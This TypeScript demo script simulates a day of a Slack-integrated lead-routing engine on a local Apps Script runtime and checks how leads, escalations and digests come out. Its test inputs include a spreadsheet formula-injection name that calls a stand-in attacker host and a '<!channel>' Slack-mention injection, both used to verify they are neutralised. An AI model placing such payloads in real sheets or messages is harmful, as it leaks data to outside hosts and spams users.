/**
 * A day of the lead-routing engine, told for a person at a terminal.
 *
 *   npm run demo        (builds dist/Code.js, then runs this)
 *
 * The built bundle runs on the local Apps Script runtime (test/runtime) with its Slack
 * emulator, through the e2e World harness: set-up, three reps, a dozen leads with messy
 * phone numbers, clicks by the right and the wrong rep, a rep who never answers, an
 * escalation, a rep switched off at lunch, a lead handed on, one qualified and one lost,
 * and the manager's daily digest at 16:00. The time-driven sweep fires every
 * sla_check_every_minutes as its trigger would. At the end: the sheets as tables and
 * Slack as the reps and the manager read it, all times in Asia/Jakarta.
 */
import type { ExecutionRecord } from '../test/runtime';
import type { SlackMessage } from '../test/runtime/slack';
import { LEADS_CHANNEL, MANAGER, World, type RepRow } from '../test/e2e/world';
import { formatTable, rowsFromGrid, type Column, type TableRow } from './print-table';

const TZ = 'Asia/Jakarta';
/** 09:00 in Jakarta (UTC+7), the runtime's default start. */
const DAY_START = Date.UTC(2026, 10, 26, 2, 0, 0);

const AYU = 'UAYU0001';
const BIMA = 'UBIMA0002';
const CITRA = 'UCITRA003';
const REPS: RepRow[] = [
  { name: 'Ayu', slackId: AYU, email: 'ayu@example.co.id' },
  { name: 'Bima', slackId: BIMA, email: 'bima@example.co.id' },
  { name: 'Citra', slackId: CITRA, email: 'citra@example.co.id' },
];
const SETTINGS = {
  sla_minutes: 30,
  escalation_threshold: 3,
  leads_channel_id: LEADS_CHANNEL,
  daily_digest_hour: 16,
};

// ---------------------------------------------------------------- formatting

const hhmmFormat = new Intl.DateTimeFormat('en-GB', {
  timeZone: TZ,
  hour: '2-digit',
  minute: '2-digit',
  hourCycle: 'h23',
});
const hhmm = (ms: number): string => hhmmFormat.format(new Date(ms));
/** "2026-11-26 09:05:00" as the sheet shows it → "09:05" (the whole demo is one day). */
const sheetTime = (value: unknown): string =>
  String(value ?? '').replace(/^\d{4}-\d{2}-\d{2} (\d{2}:\d{2}):\d{2}$/, '$1');
const EMOJI: Record<string, string> = {
  ':white_check_mark:': '✅',
  ':arrow_right:': '➡️',
  ':rotating_light:': '🚨',
  ':warning:': '⚠️',
  ':trophy:': '🏆',
  ':x:': '❌',
};
const emoji = (text: string): string => text.replace(/:[a-z_]+:/g, (code) => EMOJI[code] ?? code);

const out = (line = ''): void => console.log(line);
/** Prints `text` wrapped at ~120 columns on spaces, continuation lines indented by `hang`. */
const outWrapped = (text: string, hang: string): void => {
  const indent = /^ */.exec(text)?.[0] ?? '';
  let line = indent;
  let fresh = true;
  for (const word of text.trim().split(' ')) {
    if (!fresh && line.length + word.length + 1 > 120) {
      out(line);
      line = hang;
      fresh = true;
    }
    line = fresh ? `${line}${word}` : `${line} ${word}`;
    fresh = false;
  }
  out(line);
};
const heading = (title: string): void => {
  out();
  out(`== ${title} ${'='.repeat(Math.max(3, 86 - title.length))}`);
};

// ---------------------------------------------------------------- the world

const world = new World({ reps: REPS, settings: SETTINGS, uuidSeed: 2026 });
const { rt } = world;
const names: Record<string, string> = {
  [AYU]: 'Ayu',
  [BIMA]: 'Bima',
  [CITRA]: 'Citra',
  [MANAGER]: 'the manager',
};
const who = (id: unknown): string => names[String(id)] ?? String(id ?? '');

/** The `setup: ✓ … | ✗ …` line the latest setup() run logged. */
function setupReport(): string[] {
  const line = [...rt.logs].reverse().find((l) => l.text.includes('setup: '));
  return line
    ? line.text.slice(line.text.indexOf('setup: ') + 'setup: '.length).split(' | ')
    : ['(setup logged nothing)'];
}

function leadName(leadId: unknown): string {
  const lead = world.leads().find((l) => l.lead_id === leadId);
  if (!lead) return String(leadId);
  const name = String(lead.name);
  return `"${name.length > 22 ? `${name.slice(0, 21)}…` : name}"`;
}

// ---------------------------------------------------------------- the timeline

let logSeen = 0;
let ephemeralSeen = 0;

/** Tells the new routing_log rows, one line each (RECEIVED + ASSIGNED as one). */
function narrate(source: string): void {
  const rows = world.log().slice(logSeen);
  logSeen += rows.length;
  for (let i = 0; i < rows.length; i++) {
    const r = rows[i];
    const at = r.at instanceof Date ? hhmm(r.at.getTime()) : sheetTime(r.at);
    const name = leadName(r.lead_id);
    const line = (what: string): void => out(`${at}  ${source.padEnd(6)} ${what}`);
    switch (r.event) {
      case 'RECEIVED': {
        const lead = world.leads().find((l) => l.lead_id === r.lead_id) ?? {};
        const phone = lead.phone ? `+${String(lead.phone)}` : `unreadable, kept as typed`;
        const next = rows[i + 1];
        const to =
          next && next.event === 'ASSIGNED' && next.lead_id === r.lead_id
            ? `→ ${who(next.to_slack_id)}`
            : '';
        if (to) i++;
        line(
          `${name.padEnd(26)} phone ${`"${String(lead.phone_raw)}"`.padEnd(20)} ${phone.padEnd(26)} ${to}`,
        );
        break;
      }
      case 'ASSIGNED':
        line(`${name} assigned to ${who(r.to_slack_id)} (${String(r.detail)})`);
        break;
      case 'REROUTED':
        if (r.from_slack_id === r.to_slack_id)
          line(
            `${name}: nobody else is active, re-sent to ${who(r.to_slack_id)} as a reminder (${String(r.detail).split(';')[0]})`,
          );
        else
          line(
            `${name}: ${who(r.from_slack_id)} let ${SETTINGS.sla_minutes} min pass → re-routed to ${who(r.to_slack_id)} (${String(r.detail).split(';')[0]})`,
          );
        break;
      case 'ESCALATED':
        line(`${name}: ESCALATED to ${who(r.to_slack_id)} by DM (${String(r.detail)})`);
        break;
      case 'CONTACTED':
        line(`${who(r.actor)} marks ${name} CONTACTED`);
        break;
      case 'PASSED':
        line(
          `${who(r.actor)} hands ${name} on (Pass to next rep) → ${who(r.to_slack_id)} (${String(r.detail).split(';')[0]})`,
        );
        break;
      case 'QUALIFIED':
      case 'CLOSED_LOST':
        line(`${who(r.actor)} marks ${name} ${String(r.event)}`);
        break;
      case 'DIGEST':
        line(`the daily digest is queued for ${who(r.to_slack_id)} (${String(r.detail)})`);
        break;
      case 'REJECTED':
        line(`${who(r.actor)} clicks ${name}: refused (${String(r.detail)})`);
        break;
      case 'DUPLICATE_SUBMISSION':
        line(`the form trigger fired again for ${name}: no second lead (DUPLICATE_SUBMISSION)`);
        break;
      default:
        line(`${String(r.event)} ${name} ${String(r.detail)}`);
    }
  }
  const ephemerals = allEphemerals().slice(ephemeralSeen);
  ephemeralSeen += ephemerals.length;
  for (const e of ephemerals)
    outWrapped(
      `${' '.repeat(14)}only ${who(e.user)} sees: "${rt.slack.renderText(e)}"`,
      ' '.repeat(20),
    );
}

function allEphemerals(): Array<ReturnType<typeof rt.slack.ephemerals>[number]> {
  return [AYU, BIMA, CITRA, MANAGER]
    .flatMap((u) => rt.slack.ephemerals(u))
    .sort((a, b) => Number(a.messageTs) - Number(b.messageTs));
}

const sweepTotals = { runs: 0, read: 0, rerouted: 0, escalated: 0, assigned: 0 };

/** Lets the clock run to hh:mm, minute by minute, firing the sweep trigger when due. */
function until(time: string): void {
  const [h, m] = time.split(':').map(Number);
  const target = DAY_START + ((h - 9) * 60 + m) * 60_000;
  while (rt.clock.now() < target) {
    rt.clock.advanceMinutes(1);
    for (const record of rt.fireDueTriggers()) countSweep(record);
    narrate('sweep');
  }
}

function countSweep(record: ExecutionRecord): void {
  if (record.entry !== 'runSlaSweep') return;
  if (!record.ok)
    throw new Error(`the sweep failed at ${hhmm(record.endedMs)}: ${String(record.error)}`);
  const report = record.value as {
    rerouted: number;
    escalated: number;
    assigned: number;
    skipped?: boolean;
  };
  sweepTotals.runs++;
  if (!report.skipped) sweepTotals.read++;
  sweepTotals.rerouted += report.rerouted;
  sweepTotals.escalated += report.escalated;
  sweepTotals.assigned += report.assigned;
}

const ids: Record<string, string> = {};

function submit(
  time: string,
  key: string,
  answers: Record<string, string>,
  options?: { duplicate?: boolean },
): void {
  until(time);
  const id = world.submit(answers, options);
  if (!id) throw new Error(`no lead was created for ${key}`);
  ids[key] = id;
  narrate('form');
}

/** Someone presses a button ("Mark as CONTACTED" unless said) on the lead's current message. */
function click(
  time: string,
  userId: string,
  key: string,
  options: { twice?: boolean; actionId?: string } = {},
): void {
  until(time);
  const leadId = ids[key];
  const message = world.messageRef(leadId);
  const actionId = options.actionId ?? 'mark_contacted';
  // A double click: both events leave Slack before the first answer replaces the message.
  const events = [0, ...(options.twice ? [1] : [])].map(() =>
    rt.slack.clickEvent({ userId, actionId, value: leadId, message }),
  );
  for (const event of events) rt.run('doPost', event);
  narrate('slack');
}

function note(time: string, text: string): void {
  until(time);
  out(`${time}  ${'admin'.padEnd(6)} ${text}`);
}

// ---------------------------------------------------------------- set-up

out('Lead routing engine: one day on the local Apps Script runtime (dist/Code.js, Slack emulated)');
out(`Thursday 26 November 2026, times in ${TZ}. Reps: Ayu, Bima (never answers), Citra.`);

heading('09:00 set-up');
out('The admin links the form and runs Lead Routing → Set up. It reports:');
for (const line of setupReport()) outWrapped(`  ${line}`, '      ');
out(`The admin fills in sales_sheet (Ayu, Bima, Citra), manager_slack_id = ${MANAGER},`);
out(
  `sla_minutes = ${SETTINGS.sla_minutes}, escalation_threshold = ${SETTINGS.escalation_threshold}, leads_channel_id = ${LEADS_CHANNEL} (#leads), and runs Set up again:`,
);
const missing = rt.run('setup') as string[];
for (const line of setupReport().filter((l) => !l.startsWith('✓'))) out(`  ${line}`);
if (missing.length) out(`  (${missing.length} thing(s) still missing)`);
out(
  `Triggers installed: ${rt.triggers.map((t) => `${t.handler} (${t.eventType === 'CLOCK' ? `every ${Number(t.intervalMs) / 60_000} min` : 'on form submit'})`).join(', ')}`,
);
logSeen = world.log().length;

// ---------------------------------------------------------------- the day

heading(
  'the day (form = a form response arrives, slack = a button click, sweep = the SLA trigger)',
);
submit('09:05', 'rina', {
  Name: 'Rina Wulandari',
  Phone: '0812-3456-7890',
  Email: 'rina.w@example.com',
});
submit('09:12', 'budi', { Name: 'Budi Santoso', Phone: '+62 813 1234 5678', Email: '' });
click('09:14', AYU, 'rina');
submit('09:20', 'siti', {
  Name: 'Siti Rahma',
  Phone: '62 857 1122 3344',
  Email: 'siti@example.com',
});
click('09:22', AYU, 'siti');
click('09:26', CITRA, 'siti', { twice: true });
click('09:52', CITRA, 'budi');
submit('10:05', 'channel', { Name: '<!channel>', Phone: '0813 2222 3333', Email: '' });
submit('10:15', 'dewi', {
  Name: 'Dewi Lestari',
  Phone: '(0812) 9876-5432',
  Email: 'dewi@example.com',
});
click('10:20', AYU, 'channel');
submit('10:30', 'john', {
  Name: 'John Carter',
  Phone: '+1 650-253-0000',
  Email: 'john@example.com',
});
click('10:40', CITRA, 'john');
submit(
  '10:50',
  'formula',
  { Name: '=IMPORTXML("http://evil.example/x","//a")', Phone: '62-821-4455-6677', Email: '' },
  { duplicate: true },
);
click('10:55', CITRA, 'dewi');
submit('11:00', 'agus', { Name: 'Agus', Phone: 'call me', Email: 'agus@example.com' });
click('11:02', AYU, 'formula');
until('11:10');
rt.run('doPost', rt.slack.slashCommandEvent({ userId: BIMA, command: '/leads' }));
out(`11:10  ${'slack'.padEnd(6)} Bima types /leads`);
click('11:30', AYU, 'rina', { actionId: 'mark_qualified' });
click('11:40', MANAGER, 'john', { actionId: 'mark_lost' });
note('13:00', 'Citra leaves for the day: sales_sheet active → FALSE for Citra');
world.setReps(REPS.map((r) => (r.slackId === CITRA ? { ...r, active: false } : r)));
submit('13:10', 'putri', { Name: 'Putri Ayu', Phone: '0821.7788.9900', Email: '' });
click('13:15', AYU, 'putri');
submit('13:30', 'hendra', {
  Name: 'Hendra Gunawan',
  Phone: '+62 (21) 555-1234',
  Email: 'hendra@example.com',
});
click('14:05', AYU, 'agus');
click('14:10', AYU, 'hendra');
submit('14:30', 'maya', { Name: 'Maya Sari', Phone: '0838 1234 5678', Email: '' });
click('14:40', AYU, 'maya');
submit('15:00', 'yusuf', { Name: 'Yusuf', Phone: '+6281311112222', Email: 'yusuf@example.com' });
submit('15:10', 'rudi', { Name: 'Rudi Hartono', Phone: '0812 7000 1234', Email: '' });
until('15:15');
const rudiOwner = String(world.lead(ids.rudi).sales_slack_id);
note('15:15', `${who(rudiOwner)} is in a meeting and hands Rudi on`);
click('15:15', rudiOwner, 'rudi', { actionId: 'pass_lead' });
click('15:35', AYU, 'yusuf');
until('16:05');
out(
  `16:05  ${'-'.repeat(6)} end of the day: ${sweepTotals.runs} sweeps ran, ${sweepTotals.read} of them read the sheets (the others knew nothing was due yet); ${sweepTotals.rerouted} re-routes, ${sweepTotals.escalated} escalation`,
);

// ---------------------------------------------------------------- the sheets

const grid = (sheet: string): TableRow[] => rowsFromGrid(rt.book.sheet(sheet).displayRows());
const time: Column['format'] = (v) => sheetTime(v);

heading('lead_sheet (important columns; times as the sheet shows them)');
for (const line of formatTable(grid('lead_sheet'), [
  'lead_id',
  { key: 'name', maxWidth: 18 },
  'phone_raw',
  'phone',
  'stage',
  { key: 'assigned_sales', label: 'rep' },
  { key: 'route_count', label: 'routes', align: 'right' },
  { key: 'created_at', label: 'created', format: time },
  { key: 'assigned_at', label: 'assigned', format: time },
  { key: 'contacted_at', label: 'contacted', format: time },
  { key: 'escalated_at', label: 'escalated', format: time },
]))
  out(line);

heading('routing_log');
for (const line of formatTable(grid('routing_log'), [
  { key: 'at', format: time },
  'lead_id',
  'event',
  { key: 'from_slack_id', label: 'from' },
  { key: 'to_slack_id', label: 'to' },
  'actor',
  { key: 'detail', maxWidth: 52 },
]))
  out(line);

heading('sales_sheet');
for (const line of formatTable(grid('sales_sheet'))) out(line);

heading('routing_state_sheet');
for (const line of formatTable(grid('routing_state_sheet'), [
  'key',
  { key: 'value', format: time },
]))
  out(line);

heading('dashboard (refreshed by every sweep; two charts sit beside it)');
const board = rt.book.sheet('dashboard').displayRows();
for (const row of board.slice(0, 9))
  if (row.some((c) => c !== '')) out(`  ${row.filter((c) => c !== '').join('  ')}`);
for (const line of formatTable(
  rowsFromGrid(board.slice(10, 10 + 1 + REPS.length).map((r) => r.slice(0, 12))),
))
  out(line);
for (const chart of rt.book.sheet('dashboard').charts())
  out(`  chart: ${chart.title} (${chart.type}) over ${chart.ranges.join(', ')}`);

// ---------------------------------------------------------------- Slack

/** One message as its reader sees it now: the first line, then the rest joined. */
function showMessage(m: SlackMessage): void {
  const [first, ...rest] = emoji(rt.slack.renderText(m)).split('\n');
  const edited = m.updates.length ? `  (edited ${hhmm(m.updates[m.updates.length - 1].atMs)})` : '';
  out(`  ${hhmm(Number(m.ts) * 1000)}  ${first}${edited}`);
  // The remaining lines joined with " · ", wrapped to keep lines under ~130 columns.
  let line = '';
  for (const part of rest) {
    if (line && line.length + part.length + 3 > 120) {
      out(`         ${line}`);
      line = '';
    }
    line = line ? `${line} · ${part}` : part;
  }
  if (line) out(`         ${line}`);
}

heading(
  `Slack #leads (${rt.slack.messages(LEADS_CHANNEL).length} messages, as the reps read them now)`,
);
for (const m of rt.slack.messages(LEADS_CHANNEL)) showMessage(m);

out('  Two of them as first posted, before the button was pressed or the lead moved on:');
const about = (leadId: string): SlackMessage[] =>
  rt.slack
    .messages(LEADS_CHANNEL)
    .filter((m) => (m.updates[0]?.previous ?? m).text.includes(leadId));
for (const m of [about(ids.rina)[0], about(ids.budi).slice(-1)[0]])
  if (m) showMessage({ ...m, ...(m.updates[0]?.previous ?? {}), updates: [] });

const isDigest = (m: SlackMessage): boolean => m.text.startsWith('Daily lead digest');
heading('Slack DM to the manager');
for (const m of rt.slack.dm(MANAGER).filter((m) => !isDigest(m))) showMessage(m);

heading('the daily digest (DM to the manager at 16:00, as the manager reads it)');
for (const m of rt.slack.dm(MANAGER).filter(isDigest))
  for (const line of rt.slack.renderText(m).split('\n')) out(`  ${line}`);
for (const rep of [AYU, BIMA, CITRA])
  if (rt.slack.dm(rep).length) out(`  (and ${rt.slack.dm(rep).length} DM(s) to ${who(rep)})`);

heading('Slack ephemeral replies ("only visible to you")');
for (const e of allEphemerals())
  out(`  ${hhmm(Number(e.messageTs) * 1000)}  to ${who(e.user)}: ${rt.slack.renderText(e)}`);

// ---------------------------------------------------------------- checks

heading('checks');
const leadRows = world.leads();
const leadFormulas = rt.book
  .sheet('lead_sheet')
  .formulas()
  .flat()
  .filter((f) => f !== '');
const formulaLead = leadRows.find((l) => l.lead_id === ids.formula);
const posted = rt.slack.requests
  .filter((r) => r.method === 'chat.postMessage')
  .map((r) => r.rawBody);
const escalations = world.log().filter((r) => r.event === 'ESCALATED');
const check = (ok: boolean, text: string): void => out(`  ${ok ? 'ok  ' : 'FAIL'}  ${text}`);
check(
  leadRows.every((l) => typeof l.phone === 'string'),
  'every phone in lead_sheet is text (62812… never became a number)',
);
check(
  leadFormulas.length === 0 &&
    typeof formulaLead?.name === 'string' &&
    formulaLead.name.startsWith('='),
  `the "=IMPORTXML(…)" name is stored as text, not a formula (${leadFormulas.length} formulas in lead_sheet)`,
);
check(
  posted.some((b) => b.includes('&lt;!channel&gt;')) &&
    !posted.some((b) => b.includes('<!channel>')),
  'the lead named "<!channel>" reached Slack escaped (&lt;!channel&gt;): nobody was pinged',
);
const escalationDms = rt.slack.dm(MANAGER).filter((m) => !isDigest(m)).length;
check(
  escalations.length === 1 && escalationDms === 1,
  `one escalation, one escalation message to the manager (log: ${escalations.length}, DMs: ${escalationDms})`,
);
const digestDms = rt.slack.dm(MANAGER).filter(isDigest).length;
check(digestDms === 1, `one daily digest, though ${sweepTotals.runs} sweeps ran (${digestDms})`);
const rudi = leadRows.find((l) => l.lead_id === ids.rudi);
check(
  rudi?.passed_by === rudiOwner && Number(rudi.route_count) >= 2,
  `the handed-on lead moved at once: passed_by ${String(rudi?.passed_by)}, route_count ${String(rudi?.route_count)}`,
);
check(
  leadRows.some((l) => l.lead_id === ids.rina && l.stage === 'QUALIFIED') &&
    leadRows.some((l) => l.lead_id === ids.john && l.stage === 'CLOSED_LOST'),
  'Rina is QUALIFIED (by Ayu) and John CLOSED_LOST (by the manager), from Slack',
);
check(
  leadRows.length === 13,
  `${leadRows.length} leads from 14 trigger firings (one response delivered twice)`,
);
check(
  rt.failures.length === 0 && rt.lockLeaks.length === 0,
  `no failed executions (${rt.failures.length}), no leaked locks (${rt.lockLeaks.length}), ${rt.executions.length} executions in all`,
);
const health = JSON.parse(
  String((rt.run('doGet') as { getContent(): string }).getContent()),
) as Record<string, unknown>;
out(`  doGet (uptime check, time in UTC): ${JSON.stringify(health)}`);
